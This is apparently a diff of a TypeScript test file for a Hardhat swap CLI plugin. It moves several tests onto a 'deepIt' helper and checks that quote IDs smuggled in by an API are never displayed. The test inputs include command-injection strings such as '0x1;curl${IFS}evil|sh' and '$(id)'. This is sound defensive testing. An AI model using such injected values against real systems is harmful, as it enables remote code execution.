@@ -10,6 +10,7 @@ import { eventually } from "../../fixtures/clocks/eventually.js"
 import type { CommandOptions, EndedCommand } from "../../fixtures/commands/endedCommand.js"
 import { temporaryProject } from "../../fixtures/commands/hardhatCommand.js"
 import { type RunningCommand, startCommand, type TaskCommandOptions } from "../../fixtures/commands/taskCommand.js"
+import { deepIt, variants } from "../../fixtures/depth.js"
 import { dearer } from "../../fixtures/servers/nodes/dearNode.js"
 import { createRpcDoor } from "../../fixtures/servers/nodes/rpcDoor.js"
 import { createRewritingApi, type RewritingApi } from "../../fixtures/servers/rewritingApi.js"
@@ -101,7 +102,7 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
     expect(await sentSoFar()).to.equal(sent)
   })
 
-  it("pays the native currency", async () => {
+  deepIt("pays the native currency", async () => {
     const opened = await open("0.5", "ETH")
     const { code, stdout, stderr } = await pay(opened)
     expect(code, stderr).to.equal(0)
@@ -156,7 +157,7 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
     expect([unnamed.code, other.code, await sentSoFar()]).to.deep.equal([1, 1, before])
   })
 
-  it("does not pay what somebody else has paid", async () => {
+  deepIt("does not pay what somebody else has paid", async () => {
     const opened = await open("7")
     await world.transfer(world.alpha, "usdc", opened.address, opened.amount)
     await world.reaches(opened.quoteId, "COMPLETED")
@@ -242,25 +243,28 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
       expect(questions).to.deep.equal(["Accept a loss of 7 %? "])
     })
 
-    it("asks nobody about a high loss with --yes, or where nobody can answer, because nothing is sent", async () => {
-      answer = worth(0.93)
-      const questions: string[] = []
-      const typing = (question: string): string => {
-        questions.push(question)
-        return "n"
-      }
-      for (const [amount, more, typed] of [
-        ["8.7", ["--yes"], { answer: typing }],
-        ["8.8", ["--yes"], {}],
-        ["8.9", [], {}],
-      ] as const) {
-        await using opening = startLied(["execute", ...terms(amount), ...more, "--json"], typed)
-        await opening.event(({ event }) => event === "deposit")
-        opening.interrupt()
-        expect((await opening.ended).stderr, amount).to.contain(" 7 % ")
-      }
-      expect(questions).to.deep.equal([])
-    })
+    deepIt(
+      "asks nobody about a high loss with --yes, or where nobody can answer, because nothing is sent",
+      async () => {
+        answer = worth(0.93)
+        const questions: string[] = []
+        const typing = (question: string): string => {
+          questions.push(question)
+          return "n"
+        }
+        for (const [amount, more, typed] of [
+          ["8.7", ["--yes"], { answer: typing }],
+          ["8.8", ["--yes"], {}],
+          ["8.9", [], {}],
+        ] as const) {
+          await using opening = startLied(["execute", ...terms(amount), ...more, "--json"], typed)
+          await opening.event(({ event }) => event === "deposit")
+          opening.interrupt()
+          expect((await opening.ended).stderr, amount).to.contain(" 7 % ")
+        }
+        expect(questions).to.deep.equal([])
+      },
+    )
 
     it("does not pay what a wallet has paid, because the chain shows the transfer", async () => {
       const opened = await open("9")
@@ -274,7 +278,7 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
       expect(await sentSoFar()).to.equal(before)
     })
 
-    it("does not pay what was seen to be paid, whatever the API says later", async () => {
+    deepIt("does not pay what was seen to be paid, whatever the API says later", async () => {
       const opened = await open("0.25", "ETH")
       const { walletClient } = world.alpha
       await walletClient.sendTransaction({ to: opened.address, value: opened.amount })
@@ -286,7 +290,8 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
       expect(await sentSoFar()).to.equal(before)
     })
 
-    for (const quoteId of ["0x1;curl${IFS}evil|sh", "$(id)", "--yes", "abc\nSwap  COMPLETED  done", "0xabc --yes"]) {
+    const odd = ["abc\nSwap  COMPLETED  done", "0x1;curl${IFS}evil|sh", "$(id)", "--yes", "0xabc --yes"]
+    for (const quoteId of variants(odd, 1)) {
       it(`shows nothing of a quote that is called ${JSON.stringify(quoteId)}`, async () => {
         answer = (path, text) =>
           path.includes("/quote") ? text.replace(/"quoteId":"[^"]*"/g, `"quoteId":${JSON.stringify(quoteId)}`) : text
